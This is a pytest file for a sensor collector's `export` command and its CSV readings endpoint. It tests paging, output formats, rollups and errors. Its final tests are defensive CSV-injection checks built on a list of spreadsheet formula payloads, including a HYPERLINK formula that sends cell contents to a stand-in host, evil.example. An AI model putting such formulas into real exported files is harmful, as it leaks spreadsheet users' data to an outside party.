"""Getting readings out: the storage's keyset iterator, `sensor-collector export`,
and GET /api/readings.csv."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
import time
from datetime import datetime, timezone

import pytest
from processes import wait_until

from rollup_checks import as_before_rollups

from sensor_edge.server.storage import READING_COLUMNS, Batch, ReadingQuery, iter_newest
from sensor_edge.server.storage.rollups import ROLLUP_COLUMNS, bucket_of
from sensor_edge.server.storage.sqlite import SQLiteStorage

T0 = 1_700_000_000.0


def fill(path: str) -> list[tuple]:
    """Readings from three agents, many sharing a timestamp, in two epochs for one agent.

    Returns every row as (agent, epoch, seq, sensor, metric, value, unit, ts).
    """
    storage = SQLiteStorage(path)
    rows = []
    batches = []
    for agent, epoch in (("pi-1", "e1"), ("pi-1", "e2"), ("pi-2", "e1"), ("pi-3", "x")):
        readings = []
        for seq in range(1, 301):
            ts = T0 + seq // 4  # four readings per second: ties across and within agents
            value = seq / 10
            readings.append((seq, "climate", "temperature", value, "C", ts))
            rows.append((agent, epoch, seq, "climate", "temperature", value, "C", ts))
        batches.append(Batch(agent, epoch, readings))
    storage.store(batches, time.time())
    storage.close()
    return sorted(rows, key=lambda r: (r[7], r[0], r[1], r[2]))


def export(config: str, *args: str, stderr=subprocess.PIPE) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "sensor_edge.server", "export", "--config", config, *args],
        stdout=subprocess.PIPE, stderr=stderr, timeout=60, text=True)


@pytest.fixture
def stored(tmp_path):
    db = str(tmp_path / "readings.db")
    rows = fill(db)
    config = tmp_path / "collector.yaml"
    config.write_text(f"storage: {db}\nagents:\n  - id: pi-1\n    token: t-123456789012\n")
    return str(config), db, rows


def test_iterator_pages_through_ties_in_order_and_filters(stored):
    _, db, rows = stored
    storage = SQLiteStorage(db)
    try:
        # A page size that splits runs of equal timestamps: nothing lost, nothing twice.
        assert list(storage.iter_readings(ReadingQuery(), chunk=7)) == rows
        query = ReadingQuery(agent="pi-1", since=T0 + 10, until=T0 + 20.5)
        want = [r for r in rows if r[0] == "pi-1" and T0 + 10 <= r[7] <= T0 + 20.5]
        assert list(storage.iter_readings(query, chunk=5)) == want
        # The API's query (the newest `limit`) pages the same way: its window is exact.
        api = iter_newest(storage, ReadingQuery(agent="pi-1", since=T0 + 10, until=T0 + 20.5,
                                                limit=10_000))
        assert list(api) == want
        assert list(iter_newest(storage, ReadingQuery(limit=23), chunk=4)) == rows[-23:]
    finally:
        storage.close()


def test_export_command_writes_csv_and_jsonl(stored, tmp_path):
    config, _, rows = stored
    out = tmp_path / "out.csv"
    done = export(config, "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""  # not a terminal: no progress bar
    with open(out, newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == list(READING_COLUMNS)
    assert [(a, e, int(s), se, m, float(v), u, float(t)) for a, e, s, se, m, v, u, t
            in table[1:]] == rows
    assert not (tmp_path / "out.csv.part").exists()

    since = datetime.fromtimestamp(T0 + 50, timezone.utc).isoformat().replace("+00:00", "Z")
    done = export(config, "--format", "jsonl", "--agent", "pi-2", "--since", since,
                  "--until", str(T0 + 60))
    assert done.returncode == 0, done.stderr
    got = [json.loads(line) for line in done.stdout.splitlines()]
    want = [dict(zip(READING_COLUMNS, r)) for r in rows
            if r[0] == "pi-2" and T0 + 50 <= r[7] <= T0 + 60]
    assert got == want and len(got) == 44


def test_export_command_writes_a_tier_of_rollups(stored, tmp_path):
    config, db, rows = stored
    buckets: dict[tuple, list[float]] = {}
    for agent, _epoch, _seq, sensor, metric, value, unit, ts in rows:
        buckets.setdefault((bucket_of(ts, 60), agent, sensor, metric, unit), []).append(value)
    want = [(agent, sensor, metric, unit, start, min(v), sum(v) / len(v), max(v), len(v))
            for (start, agent, sensor, metric, unit), v in sorted(buckets.items())]
    assert len(want) == 6  # pi-1's two epochs are one series; 75 s over two minutes

    done = export(config, "--tier", "1m", "--out", str(tmp_path / "minutes.csv"))
    assert done.returncode == 0 and done.stderr == "", done.stderr
    with open(tmp_path / "minutes.csv", newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == list(ROLLUP_COLUMNS)
    got = [(a, s, m, u, int(t), float(lo), float(avg), float(hi), int(n))
           for a, s, m, u, t, lo, avg, hi, n in table[1:]]
    assert [g[:6] + g[7:] for g in got] == [w[:6] + w[7:] for w in want]
    assert [g[6] for g in got] == pytest.approx([w[6] for w in want])

    done = export(config, "--tier", "1h", "--format", "jsonl", "--agent", "pi-2")
    hours = [json.loads(line) for line in done.stdout.splitlines()]
    assert hours == [{"agent": "pi-2", "sensor": "climate", "metric": "temperature",
                      "unit": "C", "ts": bucket_of(T0, 3600), "min": 0.1,
                      "avg": pytest.approx(15.05), "max": 30.0, "count": 300}]
    assert export(config, "--tier", "5m").returncode == 2

    # A database from before rollups, opened by export before the collector has
    # rolled it up: the export says it is incomplete.
    as_before_rollups(db)
    done = export(config, "--tier", "1h")
    assert done.returncode == 0 and done.stdout.splitlines() == [",".join(ROLLUP_COLUMNS)]
    assert "still rolling up readings stored before rollups existed" in done.stderr


def test_export_mistakes_are_one_line_errors(stored, tmp_path):
    config, _, _ = stored
    for args, words in ((["--since", "yesterday"], "not Unix seconds nor ISO 8601"),
                        (["--out", str(tmp_path / "no" / "such" / "dir.csv")], "cannot write")):
        done = export(config, *args)
        assert done.returncode == 2
        assert words in done.stderr and len(done.stderr.strip().splitlines()) == 1
        assert "Traceback" not in done.stderr
    missing = tmp_path / "missing.yaml"
    missing.write_text(f"storage: {tmp_path / 'nothing-here.db'}\n")
    done = export(str(missing))
    assert done.returncode == 2 and "no readings database" in done.stderr
    assert not (tmp_path / "nothing-here.db").exists()  # looking did not create it


def test_progress_bar_only_on_a_terminal(stored, tmp_path):
    config, _, rows = stored
    controller, terminal = pty.openpty()
    try:
        done = export(config, "--out", str(tmp_path / "tty.csv"), stderr=terminal)
        os.close(terminal)
        terminal = -1
        shown = b""
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # the terminal's other end is closed: all read
                break
            if not chunk:
                break
            shown += chunk
    finally:
        if terminal >= 0:
            os.close(terminal)
        os.close(controller)
    assert done.returncode == 0
    text = shown.decode()
    assert "100%" in text and f"{len(rows):,} rows" in text


def test_readings_csv_endpoint_matches_the_json_api(make_collector, make_agent):
    collector = make_collector()
    make_agent(collector, "pi-1")
    wait_until(lambda: len(collector.stored_seqs("pi-1")) > 30, 20, what="readings")
    until = time.time()
    query = f"agent=pi-1&sensor=soc&until={until}&limit=20"
    status, body, headers = collector.get("/api/readings.csv?" + query)
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    table = list(csv.reader(io.StringIO(body.decode())))
    assert table[0] == list(READING_COLUMNS)
    api = collector.json("/api/readings?" + query)["readings"]
    assert len(api) == 20
    assert [[str(r[c]) if not isinstance(r[c], float) else repr(r[c]) for c in READING_COLUMNS]
            for r in api] == table[1:]
    assert collector.get("/api/readings.csv?since=soon")[0] == 400


def test_export_while_the_collector_is_writing(make_collector, make_agent, tmp_path):
    collector = make_collector()
    make_agent(collector, "pi-1")
    wait_until(lambda: len(collector.stored_seqs("pi-1")) > 30, 20, what="readings")
    until = time.time()
    done = export(str(collector.config_path), "--format", "jsonl", "--agent", "pi-1",
                  "--until", str(until))
    assert done.returncode == 0, done.stderr
    seqs = sorted(json.loads(line)["seq"] for line in done.stdout.splitlines())
    # Everything stored by then, once each (readings are stored within a second of being read).
    assert seqs == sorted(set(seqs)) and len(seqs) > 30
    assert set(seqs) <= set(collector.stored_seqs("pi-1"))


# Text a spreadsheet would run as a formula (OWASP's CSV injection list), in every text column.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2-2", "@SUM(A1:A9)",
            "\tx", "\rx"]


# The wire takes printable names only: tab and CR reach storage from no agent.
PRINTABLE_FORMULAS = FORMULAS[:4]


def hostile_rows(formulas: list[str] = FORMULAS) -> list[tuple]:
    rows = []
    for i, text in enumerate(formulas, start=1):
        rows.append((i, text, "=1+1", -3.5 * i, "-", T0 + i))
    rows.append((len(formulas) + 1, "plain", "temperature", -40.0, "C", T0 + 99))
    return rows


def assert_neutralised(text: str, agent: str, formulas: list[str] = FORMULAS) -> None:
    """Each formula comes back as a text cell: a leading quote, and quoted in the file."""
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == list(READING_COLUMNS)
    body = [dict(zip(READING_COLUMNS, r)) for r in table[1:] if r[0] == agent]
    assert [r["sensor"] for r in body] == ["'" + f for f in formulas] + ["plain"]
    assert {r["metric"] for r in body[:-1]} == {"'=1+1"} and body[-1]["metric"] == "temperature"
    assert {r["unit"] for r in body[:-1]} == {"'-"} and body[-1]["unit"] == "C"
    # Numbers are numbers: a negative value stays as it was.
    assert [float(r["value"]) for r in body] == \
        [-3.5 * i for i in range(1, len(formulas) + 1)] + [-40.0]
    assert ",-3.5," in text and ",-40.0," in text
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text
    assert '"\'+1+1"' in text  # quoted even where the CSV rules alone would not quote it


def assert_rollups_neutralised(text: str, agent: str, formulas: list[str] = FORMULAS) -> None:
    """Rollup rows (one minute per reading of hostile_rows) neutralised like readings."""
    table = list(csv.reader(io.StringIO(text, newline="")))
    assert table[0] == list(ROLLUP_COLUMNS)
    body = [dict(zip(ROLLUP_COLUMNS, r)) for r in table[1:] if r[0] == agent]
    assert sorted(r["sensor"] for r in body) == sorted(["'" + f for f in formulas] + ["plain"])
    assert {(r["metric"], r["unit"]) for r in body if r["sensor"] != "plain"} == {("'=1+1", "'-")}
    assert sorted(float(r["min"]) for r in body) == \
        sorted([-3.5 * i for i in range(1, len(formulas) + 1)] + [-40.0])
    assert '"\'+1+1"' in text


def test_export_neutralises_formulas_in_text_cells(tmp_path):
    db = str(tmp_path / "readings.db")
    storage = SQLiteStorage(db)
    storage.store([Batch("pi-1", "e1", hostile_rows())], time.time())
    storage.close()
    config = tmp_path / "collector.yaml"
    config.write_text(f"storage: {db}\n")
    out = tmp_path / "out.csv"
    done = export(str(config), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert_neutralised(out.read_bytes().decode(), "pi-1")  # bytes: keep the CR as it is
    # Said once, on one line: the cells were changed on purpose.
    lines = done.stderr.strip().splitlines()
    assert len(lines) == 1 and "18 cells (8 distinct" in lines[0] and "'" in lines[0], done.stderr
    # The rollups' text cells too (export --tier).
    done = export(str(config), "--tier", "1m", "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert_rollups_neutralised(out.read_bytes().decode(), "pi-1")
    assert "18 cells (8 distinct" in done.stderr, done.stderr
    # JSON lines carry text as text: nothing to neutralise there.
    done = export(str(config), "--format", "jsonl")
    assert [json.loads(line)["sensor"] for line in done.stdout.splitlines()] == \
        FORMULAS + ["plain"]
    assert done.stderr == ""


def test_readings_csv_neutralises_formulas_and_counts_them(make_collector):
    from websockets.sync.client import connect

    from conftest import TOKENS

    collector = make_collector()
    with connect(collector.stream_url, open_timeout=10,
                 additional_headers={"Authorization": f"Bearer {TOKENS['pi-2']}"}) as ws:
        ws.send(json.dumps({"type": "hello", "agent": "pi-2", "epoch": "e", "version": "t"}))
        ws.recv(timeout=10)
        readings = [dict(zip(("seq", "sensor", "metric", "value", "unit", "ts"), r))
                    for r in hostile_rows(PRINTABLE_FORMULAS)]
        ws.send(json.dumps({"type": "readings", "readings": readings}))
        assert json.loads(ws.recv(timeout=10)) == {"type": "ack", "seq": len(readings)}
    for _ in range(2):  # counted once per name, not per download
        status, body, _ = collector.get("/api/readings.csv?agent=pi-2")
        assert status == 200
        assert_neutralised(body.decode(), "pi-2", PRINTABLE_FORMULAS)
    status, body, _ = collector.get("/api/readings.csv?agent=pi-2&tier=1m")
    assert status == 200
    assert_rollups_neutralised(body.decode(), "pi-2", PRINTABLE_FORMULAS)
    text = collector.get("/metrics")[1].decode()
    # Distinct texts neutralised: the four sensors, "=1+1" and "-".
    assert 'sensor_edge_names_escaped_total{output="csv"} 6.0' in text
